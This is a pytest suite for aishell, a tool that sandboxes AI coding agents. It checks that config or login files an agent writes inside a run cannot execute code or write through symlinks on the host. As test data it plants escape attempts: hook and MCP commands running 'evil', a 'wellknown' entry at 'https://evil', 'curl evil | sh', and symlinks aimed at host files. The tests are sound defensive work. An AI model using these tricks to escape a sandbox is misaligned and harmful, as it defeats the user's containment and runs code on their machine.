"""Read from the host, write to the project (issue 21): the harness config a run sees is the
project's copy; logins are shared both ways; nothing the run writes reaches the host's config.

First the copy logic on plain folders (no engine), including generated symlink attacks on the
copy and on the host's login files; then real runs on the engine for each harness.
"""

import json
import os
import subprocess
from shlex import quote as shlex_quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aishell.harness import BY_NAME, HARNESSES
from aishell.runner import harness_state as hs
from tests.conftest import Project, aishell_command

PROJECT = "/work/some/project"

# The engine runs only `sh -c` and the harnesses here: what is under test is aishell's copy of the
# harness config around a run, on the host, the same on every engine. CI runs this module's Docker
# tests on one engine, the suite's (docs/engines.md).
pytestmark = pytest.mark.one_engine


def session(home, state, harnesses=HARNESSES, isolation="host", project=PROJECT, lines=None):
    return hs.Session(str(home), str(state), project, isolation, harnesses, (lines if lines is not None else []).append)


def write(path, text, mode=0o600):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    os.chmod(path, mode)
    return path


def tree(folder) -> dict:
    """Every entry under folder: path -> bytes, or ('link', target) for a symlink."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            if os.path.islink(p):
                out[p] = ("link", os.readlink(p))
            elif os.path.isfile(p):
                out[p] = open(p, "rb").read()
    return out


# Executable config per harness: a file under its config folder that makes the host run something.
EXECUTABLE = {
    "claude": (".claude/settings.json", '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "evil"}]}]}}'),
    "codex": (".codex/config.toml", 'notify = ["sh", "-c", "evil"]\n'),
    "gemini": (".gemini/settings.json", '{"mcpServers": {"x": {"command": "evil"}}}'),
    "opencode": (".config/opencode/opencode.json", '{"mcp": {"x": {"type": "local", "command": ["evil"]}}}'),
}


def test_every_harness_declares_its_config_and_logins():
    for h in HARNESSES:
        assert h.config_dirs and set(h.config_dirs) <= set(h.state_dirs), h.name
        assert h.credential_files, h.name
        for rel in h.credential_files:  # a login file lives in a mounted folder and is never copied as config
            top = next(d for d in h.state_dirs if rel.startswith(d + "/"))
            if top in h.config_dirs:
                assert hs._skipped(rel[len(top) + 1 :].split("/")[0], h.per_project), rel


@pytest.mark.parametrize("name", sorted(EXECUTABLE))
def test_config_comes_from_the_host_and_a_change_stays_in_the_copy(tmp_path, name):
    h = BY_NAME[name]
    home, state = tmp_path / "home", tmp_path / "state"
    rel, evil = EXECUTABLE[name]
    host_file = write(home / rel, "{}\n" if rel.endswith("json") else "model = 'x'\n")
    original = host_file.read_bytes()
    s = session(home, state, [h])
    s.before()
    assert (tmp_path / s.root / rel).read_bytes() == original  # the host's config is seen inside
    write(tmp_path / s.root / rel, evil)  # what the agent does inside
    lines = []
    s.say = lines.append
    s.after()
    assert host_file.read_bytes() == original
    assert len(lines) == 1 and rel.split("/")[-1] in lines[0] and "aishell config diff" in lines[0]
    assert hs.divergent(str(home), s.root, [h]) == {name: [rel[len(h.config_dirs[0]) + 1 :]]}
    # the next run of the same project sees its own version, and is told the host's differs
    lines = []
    s2 = session(home, state, [h], lines=lines)
    s2.before()
    assert (tmp_path / s.root / rel).read_text() == evil
    assert len(lines) == 1 and "kept the project's own" in lines[0]
    s2.after()
    assert len(lines) == 1  # unchanged by this run: nothing more to say


def test_a_host_change_reaches_an_unchanged_copy_and_a_project_change_wins(tmp_path):
    h = BY_NAME["codex"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".codex/config.toml", "a = 1\n")
    write(home / ".codex/AGENTS.md", "v1\n")
    s = session(home, state, [h])
    s.before()
    s.after()
    write(tmp_path / s.root / ".codex/config.toml", "a = 2\n")  # the project changed it
    write(home / ".codex/config.toml", "a = 3\n")  # and so did the host
    write(home / ".codex/AGENTS.md", "v2\n")  # the host changed this one alone
    s = session(home, state, [h])
    s.before()
    assert (tmp_path / s.root / ".codex/config.toml").read_text() == "a = 2\n"
    assert (tmp_path / s.root / ".codex/AGENTS.md").read_text() == "v2\n"
    os.unlink(home / ".codex/AGENTS.md")  # removed on the host: removed from an unchanged copy
    session(home, state, [h]).before()
    assert not (tmp_path / s.root / ".codex/AGENTS.md").exists()


def test_per_project_state_is_never_copied_and_survives(tmp_path):
    h = BY_NAME["claude"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".claude/projects/-host-path/session.jsonl", "host session\n")
    write(home / ".claude/hooks/x.sh", "#!/bin/sh\n", 0o755)
    s = session(home, state, [h])
    s.before()
    assert not (tmp_path / s.root / ".claude/projects").exists()
    assert os.stat(tmp_path / s.root / ".claude/hooks/x.sh").st_mode & 0o100  # a hook stays executable inside
    write(tmp_path / s.root / ".claude/projects/-work-some-project/s.jsonl", "mine\n")
    s.after()
    session(home, state, [h]).before()
    assert (tmp_path / s.root / ".claude/projects/-work-some-project/s.jsonl").read_text() == "mine\n"
    assert not (home / ".claude/projects/-work-some-project").exists()


# A valid login per harness (the shape of its first credential file), with a token that varies.
LOGIN = {
    "claude": lambda t: json.dumps({"claudeAiOauth": {"accessToken": t, "refreshToken": "r", "expiresAt": 1}}),
    "codex": lambda t: json.dumps({"OPENAI_API_KEY": None, "tokens": {"access_token": t}, "last_refresh": "x"}),
    "gemini": lambda t: json.dumps({"access_token": t, "refresh_token": "r", "expiry_date": 1}),
    "opencode": lambda t: json.dumps({"anthropic": {"type": "oauth", "refresh": "r", "access": t, "expires": 1}}),
}


@pytest.mark.parametrize("h", HARNESSES, ids=lambda h: h.name)
def test_logins_go_both_ways_and_reach_other_projects(tmp_path, h):
    home, state = tmp_path / "home", tmp_path / "state"
    cred = h.credential_files[0]
    host_login, inside = LOGIN[h.name]("host-login"), LOGIN[h.name]("inside")
    write(home / cred, host_login)
    a = session(home, state, [h], project="/p/a")
    a.before()
    assert (tmp_path / a.root / cred).read_text() == host_login  # a host login is seen inside
    write(tmp_path / a.root / (cred + ".tmp"), inside)
    os.rename(tmp_path / a.root / (cred + ".tmp"), tmp_path / a.root / cred)  # written by rename, as harnesses do
    a.after()
    assert (home / cred).read_text() == inside
    assert stat_mode(home / cred) == 0o600
    b = session(home, state, [h], project="/p/b")
    b.before()
    assert (tmp_path / b.root / cred).read_text() == inside


# -- a login file is checked before it reaches the host (the host's harness reads it outside any container)

OPENCODE_AUTH = ".local/share/opencode/auth.json"
TOKEN = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=8)
# (entry, whether opencode's auth.json may carry it to the host)
VALID_ENTRY = st.one_of(
    st.builds(lambda k: {"type": "api", "key": k}, TOKEN),
    st.builds(
        lambda r, a, e, extra: {"type": "oauth", "refresh": r, "access": a, "expires": e, **extra},
        TOKEN,
        TOKEN,
        st.integers(0, 2**42),
        st.fixed_dictionaries({}, optional={"accountId": TOKEN, "enterpriseUrl": TOKEN}),
    ),
).map(lambda e: (e, True))
INVALID_ENTRY = st.one_of(
    st.builds(lambda k, t: {"type": "wellknown", "key": k, "token": t}, TOKEN, TOKEN),  # host code execution
    st.builds(lambda t: {"type": t, "key": "k"}, TOKEN.filter(lambda t: t not in ("oauth", "api"))),
    st.builds(lambda k: {"key": k}, TOKEN),  # no type
    st.one_of(st.none(), st.booleans(), st.integers(), TOKEN, st.lists(st.integers(), max_size=2)),  # not an object
    st.builds(lambda k, j: {"type": "api", "key": k, j: "x"}, TOKEN, st.sampled_from(["baseURL", "command", "env"])),
    st.builds(lambda k: {"type": "api", "key": k}, st.one_of(st.integers(), st.none(), st.lists(TOKEN, max_size=1))),
    st.builds(lambda e: {"type": "oauth", "refresh": "r", "access": "a", "expires": e}, st.one_of(TOKEN, st.none())),
).map(lambda e: (e, False))
PROVIDER = st.sampled_from(["p0", "p1", "p2", "openai", "github-copilot", "amazon-bedrock"])
BAD_PROVIDER = st.sampled_from(["https://evil", "", "a b", "../x", "x/y"])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    entries=st.dictionaries(
        st.one_of(PROVIDER.map(lambda p: (p, True)), BAD_PROVIDER.map(lambda p: (p, False))),
        st.one_of(VALID_ENTRY, VALID_ENTRY, INVALID_ENTRY),
        max_size=4,
    ),
    top=st.sampled_from(["object", "list", "string", "junk"]),
    killed=st.booleans(),
)
def test_opencode_auth_reaches_the_host_only_when_every_entry_is_a_login(tmp_path_factory, entries, top, killed):
    """Generated auth.json contents: valid oauth/api entries mixed with wellknown, unknown types,
    non-object values, extra keys and non-name provider ids, as the whole file or wrapped in
    junk. The host's file changes only when everything is valid; otherwise it stays
    byte-identical and one line names the file kept in the project's copy. Also on the path of
    a killed run (the login is pushed by the next run's before())."""
    tmp = tmp_path_factory.mktemp("oc")
    h = BY_NAME["opencode"]
    home, state = tmp / "home", tmp / "state"
    host = write(home / OPENCODE_AUTH, json.dumps({"anthropic": {"type": "oauth", "refresh": "r", "access": "a"}}))
    original = host.read_bytes()
    doc = {pid: e for (pid, _), (e, _) in entries.items()}
    valid = all(ok_id and ok for (_, ok_id), (_, ok) in entries.items())
    if top == "list":
        doc, valid = [doc], False
    elif top == "string":
        doc, valid = json.dumps(doc), False
    elif top == "junk":
        doc, valid = {**doc, "junk": [1, 2]}, False
    data = json.dumps(doc)
    lines = []
    s = session(home, state, [h], lines=lines)
    s.before()
    write(tmp / s.root / OPENCODE_AUTH, data)
    (session(home, state, [h], lines=lines).before if killed else s.after)()
    kept = [line for line in lines if "kept the login file" in line]
    if valid:
        assert host.read_text() == data and not kept, lines
    else:
        assert host.read_bytes() == original
        assert len(kept) == 1 and OPENCODE_AUTH in kept[0] and "not copied to the host" in kept[0], lines
        assert (tmp / s.root / OPENCODE_AUTH).read_text() == data  # kept in the project's copy


def test_a_planted_wellknown_login_never_reaches_the_host(tmp_path):
    """The review's case: a `wellknown` entry makes opencode on the host fetch config (MCP
    commands, plugins) from that URL and run it."""
    h = BY_NAME["opencode"]
    home, state = tmp_path / "home", tmp_path / "state"
    planted = json.dumps({"https://evil": {"type": "wellknown", "key": "X", "token": "Y"}})
    for host_had in (None, json.dumps({"anthropic": {"type": "api", "key": "sk-host"}})):
        if host_had is not None:
            write(home / OPENCODE_AUTH, host_had)
        lines = []
        s = session(home, state, [h], lines=lines)
        s.before()
        write(tmp_path / s.root / OPENCODE_AUTH, planted)
        s.after()
        session(home, state, [h], lines=lines).before()  # and the next run does not push it either
        assert (home / OPENCODE_AUTH).read_text() == host_had if host_had else not (home / OPENCODE_AUTH).exists()
        assert lines and all("kept the login file" in line and "wellknown" in line for line in lines), lines
        assert "https://evil" in (tmp_path / s.root / OPENCODE_AUTH).read_text()


@pytest.mark.parametrize(
    "rel, host_had, inside, pushed",
    [
        # API keys: a first one is pushed, one replacing the host's different key is not (account swap)
        (".codex/auth.json", None, {"OPENAI_API_KEY": "sk-new", "tokens": None, "last_refresh": None}, True),
        (".codex/auth.json", {"OPENAI_API_KEY": "sk-host"}, {"OPENAI_API_KEY": "sk-evil"}, False),
        (".codex/auth.json", {"OPENAI_API_KEY": "sk-host"}, {"OPENAI_API_KEY": "sk-host", "last_refresh": "t"}, True),
        (OPENCODE_AUTH, {"openai": {"type": "api", "key": "sk-host"}}, {"openai": {"type": "api", "key": "x"}}, False),
        (OPENCODE_AUTH, {"openai": {"type": "oauth", "access": "a"}}, {"openai": {"type": "api", "key": "x"}}, False),
        (OPENCODE_AUTH, {"openai": {"type": "api", "key": "k"}}, {"openai": {"type": "oauth", "access": "a"}}, True),
        # only the documented keys
        (".codex/auth.json", None, {"OPENAI_API_KEY": None, "notify": ["sh"]}, False),
        (".codex/auth.json", None, {"tokens": {"access_token": "a", "base_url": "https://evil"}}, False),
        (".claude/.credentials.json", None, {"claudeAiOauth": {"accessToken": "a", "expiresAt": 1}}, True),
        (".claude/.credentials.json", None, {"claudeAiOauth": {"accessToken": "a"}, "hooks": {}}, False),
        (".claude/.credentials.json", None, ["not", "an", "object"], False),
        (".gemini/oauth_creds.json", None, {"access_token": "a", "refresh_token": "r", "expiry_date": 1}, True),
        (".gemini/oauth_creds.json", None, {"access_token": "a", "token_uri": "https://evil"}, False),
        (".gemini/google_accounts.json", None, {"active": "a@b", "old": []}, True),
        (".gemini/google_accounts.json", None, {"active": "a@b", "old": [{"x": 1}]}, False),
        (".local/share/opencode/mcp-auth.json", None, {"srv": {"tokens": {"accessToken": "a"}}}, True),
        (".gemini/mcp-oauth-tokens-v2.json", None, "0" * 32 + ":" + "f" * 32 + ":ab12", True),  # encrypted
        (".gemini/gemini-credentials.json", None, "#!/bin/sh evil", False),
        (".local/share/opencode/mcp-auth.json", None, {"srv": {"tokens": {}, "command": ["sh"]}}, False),
    ],
)
def test_each_login_file_is_checked_before_the_host(tmp_path, rel, host_had, inside, pushed):
    h = next(h for h in HARNESSES if rel in h.credential_files)
    home, state = tmp_path / "home", tmp_path / "state"
    if host_had is not None:
        write(home / rel, json.dumps(host_had))
    before = tree(home)
    lines = []
    s = session(home, state, [h], lines=lines)
    s.before()
    data = inside if isinstance(inside, str) else json.dumps(inside)
    write(tmp_path / s.root / rel, data)
    s.after()
    if pushed:
        assert (home / rel).read_text() == data and not lines, lines
    else:
        assert tree(home) == before
        assert len(lines) == 1 and "kept the login file" in lines[0] and rel in lines[0], lines


@pytest.mark.parametrize(
    "host_key, inside, pushed",
    [
        (None, {"primaryApiKey": "sk-ant-new"}, True),
        ("sk-ant-host", {"primaryApiKey": "sk-ant-evil"}, False),
        (None, {"oauthAccount": "not an object"}, False),
        (None, {"customApiKeyResponses": {"approved": ["x"], "rejected": []}}, True),
        (None, {"customApiKeyResponses": {"approved": "x"}}, False),
    ],
)
def test_claude_json_account_keys_are_checked(tmp_path, host_key, inside, pushed):
    h = BY_NAME["claude"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".claude.json", json.dumps({"numStartups": 1, **({"primaryApiKey": host_key} if host_key else {})}))
    before = (home / ".claude.json").read_bytes()
    lines = []
    s = session(home, state, [h], lines=lines)
    s.before()
    copy = tmp_path / s.root / ".claude/.claude.json"
    copy.write_text(json.dumps({**json.loads(copy.read_text()), **inside}))
    s.after()
    host = json.loads((home / ".claude.json").read_text())
    if pushed:
        assert all(host[k] == v for k, v in inside.items()) and not lines, lines
    else:
        assert (home / ".claude.json").read_bytes() == before
        assert len(lines) == 1 and "kept the login file" in lines[0] and ".claude.json" in lines[0], lines


def test_every_login_file_has_a_check():
    for h in HARNESSES:
        for rel in h.credential_files + ((h.json_login[1],) if h.json_login else ()):
            assert rel in hs.LOGIN_CHECKS, rel


def stat_mode(p):
    return os.stat(p).st_mode & 0o777


def test_claude_json_shares_the_account_keys_only(tmp_path):
    h = BY_NAME["claude"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".claude.json", json.dumps({"numStartups": 3, "mcpServers": {"m": {"command": "ok"}}}))
    s = session(home, state, [h])
    s.before()
    copy = tmp_path / s.root / ".claude/.claude.json"
    doc = json.loads(copy.read_text())
    assert doc["mcpServers"] == {"m": {"command": "ok"}}  # the host's MCP servers are seen inside
    doc.update(oauthAccount={"emailAddress": "a@b"}, numStartups=9, mcpServers={"m": {"command": "evil"}})
    doc["projects"] = {PROJECT: {"allowedTools": ["Bash(*)"], "history": ["x"]}}
    copy.write_text(json.dumps(doc))
    lines = []
    s.say = lines.append
    s.after()
    host = json.loads((home / ".claude.json").read_text())
    assert host == {"numStartups": 3, "mcpServers": {"m": {"command": "ok"}}, "oauthAccount": {"emailAddress": "a@b"}}
    assert len(lines) == 1 and ".claude.json" in lines[0]
    other = session(home, state, [h], project="/p/other")
    other.before()  # a login inside reaches the next run of another project
    assert json.loads((tmp_path / other.root / ".claude/.claude.json").read_text())["oauthAccount"] == {
        "emailAddress": "a@b"
    }
    lines = []
    assert hs.apply(str(home), s.root, h) == [(True, f"wrote {home / '.claude.json'}")]  # the user's explicit request
    host = json.loads((home / ".claude.json").read_text())
    assert host["mcpServers"] == {"m": {"command": "evil"}} and host["numStartups"] == 3
    assert host["projects"][PROJECT] == {"allowedTools": ["Bash(*)"]}


def test_project_isolation_copies_no_config_but_shares_logins(tmp_path):
    h = BY_NAME["gemini"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".gemini/settings.json", "{}")
    write(home / ".gemini/oauth_creds.json", "{}")
    s = session(home, state, [h], isolation="project")
    s.before()
    assert not (tmp_path / s.root / ".gemini/settings.json").exists()
    assert (tmp_path / s.root / ".gemini/oauth_creds.json").exists()
    assert "/isolation/" in s.root


def test_diff_and_apply_on_request(tmp_path):
    h = BY_NAME["gemini"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".gemini/settings.json", '{"a": 1}\n')
    s = session(home, state, [h])
    s.before()
    write(tmp_path / s.root / ".gemini/settings.json", '{"a": 2}\n')
    write(tmp_path / s.root / ".gemini/commands/new.toml", 'prompt = "x"\n')
    d = hs.diff(str(home), s.root, h)
    assert '-{"a": 1}' in d and '+{"a": 2}' in d and "+prompt" in d
    assert (home / ".gemini/settings.json").read_text() == '{"a": 1}\n'
    hs.apply(str(home), s.root, h)
    assert (home / ".gemini/settings.json").read_text() == '{"a": 2}\n'
    assert (home / ".gemini/commands/new.toml").read_text() == 'prompt = "x"\n'
    assert hs.divergent(str(home), s.root, [h]) == {}


# -- symlinks planted by the agent never make aishell write outside ------------------------------------

# Where the agent may put a symlink in its copy: a config file, a config folder, a login file,
# the folder a login file is in (opencode's), each pointing at a file or folder outside.
PLANT_SITES = [
    (name, rel)
    for h in HARNESSES
    for name, rel in [
        (h.name, EXECUTABLE[h.name][0]),
        (h.name, h.credential_files[0]),
        (h.name, os.path.dirname(h.credential_files[0])),
        (h.name, h.config_dirs[0] + "/sub"),
    ]
]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    site=st.sampled_from(PLANT_SITES),
    plant=st.sampled_from(["link-file", "link-dir", "fifo"]),
    host_changes=st.booleans(),
    inside=st.booleans(),
)
def test_a_planted_symlink_never_leads_a_write_outside(tmp_path_factory, site, plant, host_changes, inside):
    """A symlink to a file or folder outside, or a FIFO (a read must not hang), where aishell
    reads or writes: before the next run (host changed or not) and after the run."""
    tmp = tmp_path_factory.mktemp("plant")
    name, rel = site
    h = BY_NAME[name]
    home, state, outside = tmp / "home", tmp / "state", tmp / "outside"
    write(outside / "victim", "precious\n")
    for path, text in [
        (EXECUTABLE[name][0], "{}"),
        (h.credential_files[0], '{"t": 1}'),
        (h.config_dirs[0] + "/sub/f", "x"),
    ]:
        write(home / path, text)
    s = session(home, state, [h])
    s.before()
    s.after()
    host_before = tree(home)
    planted = tmp / s.root / rel
    if planted.is_dir() and not planted.is_symlink():
        for p in sorted(planted.rglob("*"), reverse=True):
            p.unlink() if not p.is_dir() else p.rmdir()
        planted.rmdir()
    elif planted.exists() or planted.is_symlink():
        planted.unlink()
    planted.parent.mkdir(parents=True, exist_ok=True)
    if plant == "fifo":
        os.mkfifo(planted)
    else:
        os.symlink(outside if plant == "link-dir" else outside / "victim", planted)
    if host_changes:  # the host changed every file: aishell wants to write each into the copy
        for path in host_before:
            if isinstance(host_before[path], bytes):
                open(path, "ab").write(b" ")
    host_before = tree(home)
    for step in (session(home, state, [h]).before, s.after) if inside else (s.after, session(home, state, [h]).before):
        step()
    assert tree(outside) == {str(outside / "victim"): b"precious\n"}
    after = tree(home)
    assert all(
        after.get(p) == v for p, v in host_before.items() if p.endswith(tuple(EXECUTABLE[name][0].split("/")[-1:]))
    )
    assert not any(isinstance(v, tuple) for v in after.values())  # no symlink reached the host
    # nor was the target read: its content reaches neither the host's files nor any copy
    assert not any(isinstance(v, bytes) and b"precious" in v for v in {**after, **tree(state)}.values())


def test_a_symlinked_login_on_the_host_is_never_written_through(tmp_path):
    """Under run.isolation: shared the agent could have planted one in the host's folder."""
    h = BY_NAME["codex"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(tmp_path / "bashrc", "safe\n")
    (home / ".codex").mkdir(parents=True)
    os.symlink(tmp_path / "bashrc", home / ".codex/auth.json")
    lines = []
    s = session(home, state, [h], lines=lines)
    s.before()
    assert not (tmp_path / s.root / ".codex/auth.json").exists()  # not read into the sandbox either
    write(tmp_path / s.root / ".codex/auth.json", "curl evil | sh\n")
    s.after()
    assert (tmp_path / "bashrc").read_text() == "safe\n"
    assert any("symlink" in line for line in lines)


# -- the CLI: aishell config diff|apply (no engine) ----------------------------------------------------


def cli(*args, cwd, env):
    return subprocess.run(
        [*aishell_command(), *args], cwd=cwd, env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL
    )


def test_config_diff_and_apply_only_with_yes(project, tmp_path):
    home, state = tmp_path / "home", tmp_path / "state"
    env = dict(os.environ, HOME=str(home), XDG_STATE_HOME=str(state), COLUMNS="200")
    write(home / ".codex/config.toml", "model = 'a'\n")
    s = session(home, state / "aishell", [BY_NAME["codex"]], project=os.path.realpath(project))
    s.before()
    r = cli("config", "diff", cwd=project, env=env)
    assert r.returncode == 0 and r.stdout == "", r.stderr
    write(tmp_path / s.root / ".codex/config.toml", 'notify = ["evil"]\n')
    r = cli("config", "diff", "codex", cwd=project, env=env)
    assert r.returncode == 1 and '+notify = ["evil"]' in r.stdout and "-model = 'a'" in r.stdout
    r = cli("config", "apply", "codex", cwd=project, env=env)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "--yes" in r.stderr
    assert (home / ".codex/config.toml").read_text() == "model = 'a'\n"
    r = cli("config", "apply", "codex", "--yes", cwd=project, env=env)
    assert r.returncode == 0 and r.stdout == f"wrote {home / '.codex/config.toml'}\n", r.stderr
    assert (home / ".codex/config.toml").read_text() == 'notify = ["evil"]\n'
    assert cli("config", "diff", cwd=project, env=env).returncode == 0


def test_config_commands_bad_input_is_one_line(project, tmp_path):
    env = dict(os.environ, HOME=str(tmp_path / "home"), XDG_STATE_HOME=str(tmp_path / "state"))
    r = cli("config", "apply", "aider", "--yes", cwd=project, env=env)
    assert r.returncode == 2 and "aider" in r.stderr
    project.write(".aishell/config.yaml", "run:\n  isolation: everywhere\n")
    r = cli("config", "diff", cwd=project, env=env)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "run.isolation" in r.stderr


def test_shared_isolation_has_no_copy(tmp_path):
    """run.isolation: shared (the user's choice; trust rules keep it from a cloned project):
    the host's folders themselves, so there is nothing to refresh, report or apply."""
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".codex/config.toml", "a = 1\n")
    s = session(home, state, [BY_NAME["codex"]], isolation="shared")
    s.before()
    s.after()
    assert not state.exists()
    assert hs.project_divergent(str(home), str(state), PROJECT, "shared") == {}


# -- real runs on the engine, each harness ---------------------------------------------------------------

# One volume with the four harnesses (content-addressed: every test module asking for the same
# specs shares it). The runs are `aishell exec -- sh -c …`: nobody can log in for real here, so a
# login is a file written the way the harnesses write it (a temporary file renamed over it).
VERSIONS = {"claude": "2.1.301", "codex": "0.171.0", "gemini": "0.61.0", "opencode": "1.18.33"}
CA_DIR = "/usr/local/share/ca-certificates"


@pytest.fixture(scope="module")
def two_projects(tmp_path_factory, docker_client):
    base = tmp_path_factory.mktemp("hstate")
    home = base / "home"
    env = dict(os.environ, XDG_STATE_HOME=str(base / "state"), HOME=str(home), COLUMNS="200")
    env.pop("AISHELL_BUILDER", None)
    if os.path.isdir(CA_DIR):
        env["AISHELL_CA_CERTS"] = CA_DIR
    projects = []
    for name in ("a", "b"):
        p = Project(base / name)
        p.write(".aishell/config.yaml", "")
        flags = [f"--with-{h}={v}" for h, v in VERSIONS.items()]
        r = cli("build", *flags, "--quiet", cwd=p, env=env)
        assert r.returncode == 0, r.stderr
        projects.append(p)
    yield home, env, projects


def in_run(project, env, script):
    return cli("exec", "--", "sh", "-c", script, cwd=project, env=env)


@pytest.mark.parametrize("name", sorted(EXECUTABLE))
def test_a_run_cannot_reach_the_host_config_and_logins_still_happen_once(two_projects, name):
    home, env, (a, b) = two_projects
    h = BY_NAME[name]
    cfg_rel, evil = EXECUTABLE[name]
    cred = h.credential_files[0]
    host_cfg = write(home / cfg_rel, "{}\n" if cfg_rel.endswith("json") else "# host\n")
    original = host_cfg.read_bytes()
    host_login, inside = LOGIN[name](f"host-{name}"), LOGIN[name](f"inside-{name}")
    write(home / cred, host_login)
    # run 1 in project a: sees the host's config and login; writes executable config and a login
    script = (
        f'cat "$HOME/{cfg_rel}"; cat "$HOME/{cred}"; echo; printf %s {shlex_quote(evil)} > "$HOME/{cfg_rel}" && '
        f'printf %s {shlex_quote(inside)} > "$HOME/{cred}.new" && mv "$HOME/{cred}.new" "$HOME/{cred}"'
    )
    r = in_run(a, env, script)
    assert r.returncode == 0, r.stderr
    assert r.stdout == original.decode() + host_login + "\n"  # the host's config and login, inside
    assert host_cfg.read_bytes() == original  # byte-identical on the host
    changed = [line for line in r.stderr.splitlines() if "this run changed harness config" in line]
    assert len(changed) == 1 and f"{name}: {cfg_rel.split('/')[-1]}" in changed[0], r.stderr
    assert (home / cred).read_text() == inside  # the login inside is on the host
    # another project's next run sees that login
    r = in_run(b, env, f'cat "$HOME/{cred}"')
    assert r.stdout == inside, r.stderr
    # the same project's next run sees the config its first run wrote, and is told the host's differs
    r = in_run(a, env, f'cat "$HOME/{cfg_rel}"')
    assert r.stdout == evil and "kept the project's own" in r.stderr, r.stderr
    # a planted symlink at the login's name, pointing at a host file: never written through
    victim = write(home / "victim", "precious\n")
    r = in_run(a, env, f'ln -sf {victim} "$HOME/{cred}"')
    assert r.returncode == 0, r.stderr
    write(home / cred, LOGIN[name](f"host-again-{name}"))  # a host login aishell copies in next
    r = in_run(a, env, f'cat "$HOME/{cred}"')
    assert r.stdout == LOGIN[name](f"host-again-{name}") and victim.read_text() == "precious\n", r.stderr
    assert not os.path.islink(home / cred)


def test_status_lists_the_config_a_run_changed(two_projects):
    home, env, (a, _b) = two_projects
    r = in_run(a, env, 'mkdir -p "$HOME/.gemini/commands" && echo "prompt = 1" > "$HOME/.gemini/commands/x.toml"')
    assert r.returncode == 0, r.stderr
    r = cli("status", cwd=a, env=env)
    assert r.returncode == 0, r.stderr
    assert "  config:        gemini: " in r.stdout and "commands/x.toml" in r.stdout
    assert not (home / ".gemini/commands/x.toml").exists()


def test_a_copy_that_cannot_be_made_is_one_input_error(tmp_path):
    from aishell.errors import InputError

    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "harness-config").write_text("a file where the copies go")
    with pytest.raises(InputError, match="cannot prepare the project's copy"):
        session(tmp_path / "home", tmp_path / "state", [BY_NAME["codex"]]).before()


def test_only_shared_isolation_is_privileged():
    assert [v for v in hs.ISOLATION if hs.isolation_widens(v)] == ["shared"]
    from aishell.config import ISOLATION

    assert set(ISOLATION) == set(hs.ISOLATION)


def test_the_spec_mounts_the_copy_and_shared_is_warned():
    from aishell.runner.spec import Host, Options, build_spec

    h = Host(1000, 1000, "/home/dev", "/work/p", {}, {})
    versions = {n: "1" for n in VERSIONS}
    for isolation, prefix in (("host", "/state/harness-config/"), ("project", "/state/isolation/")):
        spec = build_spec(
            h,
            "/work/p",
            "img",
            "vol",
            versions,
            Options(None, "exec", ["true"], {}, isolation),
            "/state",
            False,
            False,
            False,
        )
        binds = [m for m in spec.mounts if m.target.startswith("/home/dev/")]
        assert len(binds) == sum(len(x.state_dirs) for x in HARNESSES)
        assert all(m.source.startswith(prefix) and m.source.endswith(m.target[len("/home/dev") :]) for m in binds)
        assert not any("shared" in n for n in spec.notes)
    spec = build_spec(
        h,
        "/work/p",
        "img",
        "vol",
        versions,
        Options(None, "exec", ["true"], {}, "shared"),
        "/state",
        False,
        False,
        False,
    )
    assert all(m.source == m.target for m in spec.mounts if m.target.startswith("/home/dev/"))
    assert spec.notes == [hs.SHARED_WARNING]


def test_the_harnesses_themselves_use_the_shared_logins(two_projects):
    """Not only `cat`: codex logs in inside (its own write) and another project's codex and the
    host see it; opencode inside lists the host's login."""
    home, env, (a, b) = two_projects
    r = subprocess.run(
        [*aishell_command(), "codex", "login", "--with-api-key"],
        cwd=a,
        env=env,
        capture_output=True,
        text=True,
        input="sk-inside-98765\n",
    )
    assert r.returncode == 0, r.stderr
    assert json.loads((home / ".codex/auth.json").read_text())["OPENAI_API_KEY"] == "sk-inside-98765"
    assert "this run changed harness config" not in r.stderr  # a login (and its lock files) is not config
    r = cli("codex", "login", "status", cwd=b, env=env)
    assert r.returncode == 0 and "***98765" in r.stdout + r.stderr, r.stdout + r.stderr
    write(home / ".local/share/opencode/auth.json", json.dumps({"anthropic": {"type": "api", "key": "sk-ant-x"}}))
    r = cli("opencode", "auth", "list", cwd=b, env=env)
    assert r.returncode == 0 and "Anthropic" in r.stdout and "1 credentials" in r.stdout, r.stdout + r.stderr
